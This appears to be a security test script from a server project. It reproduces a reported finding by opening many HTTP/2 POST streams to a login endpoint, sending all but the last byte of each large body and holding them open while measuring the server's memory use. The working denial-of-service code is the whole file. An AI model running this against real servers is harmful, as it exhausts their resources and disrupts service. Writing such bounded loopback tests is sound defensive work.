#!/usr/bin/env python3
"""HTTP/2 by prior knowledge, many streams, each holding an unfinished body (issue 10, finding 2).

Opens CONNS TLS connections without ALPN, sends the HTTP/2 preface and, on each connection, up to
STREAMS POST streams to /api/v1/login announcing a body of BODY bytes and sending all but the last
byte (respecting flow control), then holds them for HOLD seconds while sampling the server's RSS.
Bounded in connections, streams, bytes and time; loopback only.

  python3 bench/abuse/h2_streams.py --port 4433 --pid $(pidof tern) [--conns 5 --streams 200]
"""
import argparse
import select
import struct
import threading
import time

from common import rss_mb, tls_connect

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index, value):
    """HPACK literal header field without indexing, name from the static table (index < 15)."""
    v = value.encode()
    assert index < 15 and len(v) < 127
    return bytes([index]) + bytes([len(v)]) + v


def headers_block(authority, body):
    block = b"\x83\x87"  # :method POST, :scheme https
    block += literal(4, "/api/v1/login") + literal(1, authority)
    block += b"\x0f\x0d" + bytes([len(str(body))]) + str(body).encode()  # content-length (28)
    block += b"\x0f\x10" + bytes([16]) + b"application/json"  # content-type (31)
    return block


class Attack:
    def __init__(self, args):
        self.args = args
        self.answered_h2 = 0
        self.bytes_sent = 0
        self.open = 0
        self.lock = threading.Lock()

    def run_one(self):
        a = self.args
        try:
            s = tls_connect(a.host, a.port, alpn=None, pin=a.pin)
        except OSError as e:
            print("connect failed:", e)
            return
        s.settimeout(None)
        s.setblocking(True)
        s.sendall(PREFACE + frame(0x4, 0, 0))
        conn_window = 65535
        initial = 65535
        windows = {}
        remaining = {}
        max_streams = a.streams
        buf = b""
        next_id = 1
        deadline = time.time() + a.hold
        got_settings = False
        counted = False
        with self.lock:
            self.open += 1
        try:
            while time.time() < deadline:
                r, _, _ = select.select([s], [], [], 0.05)
                if r:
                    data = s.recv(65536)
                    if not data:
                        break
                    buf += data
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    kind, flags = buf[3], buf[4]
                    sid = struct.unpack(">I", buf[5:9])[0] & 0x7FFFFFFF
                    payload = buf[9:9 + length]
                    buf = buf[9 + length:]
                    if kind == 0x4 and not flags & 1:
                        got_settings = True
                        for i in range(0, len(payload), 6):
                            ident, value = struct.unpack(">HI", payload[i:i + 6])
                            if ident == 0x3:
                                max_streams = min(max_streams, value)
                            if ident == 0x4:
                                for k in windows:
                                    windows[k] += value - initial
                                initial = value
                        s.sendall(frame(0x4, 1, 0))
                    elif kind == 0x8:
                        inc = struct.unpack(">I", payload)[0] & 0x7FFFFFFF
                        if sid == 0:
                            conn_window += inc
                        elif sid in windows:
                            windows[sid] += inc
                    elif kind == 0x6 and not flags & 1:
                        s.sendall(frame(0x6, 1, 0, payload))
                    elif kind == 0x7:
                        print("GOAWAY", payload[:8].hex())
                if got_settings and not counted:
                    counted = True
                    with self.lock:
                        self.answered_h2 += 1
                if not got_settings:
                    if buf and not buf.startswith(b"\x00"):
                        print("not HTTP/2:", buf[:40])
                        break
                    continue
                while next_id < 2 * max_streams and len(windows) < max_streams:
                    s.sendall(frame(0x1, 0x4, next_id, headers_block(f"{a.host}:{a.port}", a.body)))
                    windows[next_id] = initial
                    remaining[next_id] = a.body - 1
                    next_id += 2
                for sid in list(remaining):
                    while remaining[sid] > 0 and windows[sid] > 0 and conn_window > 0:
                        n = min(remaining[sid], windows[sid], conn_window, 16384)
                        s.sendall(frame(0x0, 0, sid, b"{" * n))
                        remaining[sid] -= n
                        windows[sid] -= n
                        conn_window -= n
                        with self.lock:
                            self.bytes_sent += n
                    if remaining[sid] == 0:
                        del remaining[sid]
        except OSError as e:
            print("connection ended:", e)
        finally:
            with self.lock:
                self.open -= 1
            s.close()


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--pid", type=int, required=True, help="server pid, for RSS")
    p.add_argument("--pin", default=None, help="certificate SHA-256 (hex)")
    p.add_argument("--conns", type=int, default=5)
    p.add_argument("--streams", type=int, default=200)
    p.add_argument("--body", type=int, default=1024 * 1024)
    p.add_argument("--hold", type=float, default=30.0)
    args = p.parse_args()
    attack = Attack(args)
    before = rss_mb(args.pid)
    threads = [threading.Thread(target=attack.run_one, daemon=True) for _ in range(args.conns)]
    for t in threads:
        t.start()
    peak = before
    start = time.time()
    while any(t.is_alive() for t in threads):
        time.sleep(1)
        peak = max(peak, rss_mb(args.pid))
        print(f"t={time.time()-start:4.0f}s rss={rss_mb(args.pid):7.1f} MB open={attack.open} "
              f"h2_answered={attack.answered_h2} body_bytes_sent={attack.bytes_sent/1e6:.1f} MB",
              flush=True)
    after = rss_mb(args.pid)
    print(f"RESULT rss_before_mb={before:.1f} rss_peak_mb={peak:.1f} rss_after_mb={after:.1f} "
          f"h2_connections_answered={attack.answered_h2}/{args.conns} "
          f"body_mb_accepted={attack.bytes_sent/1e6:.1f}")


if __name__ == "__main__":
    main()
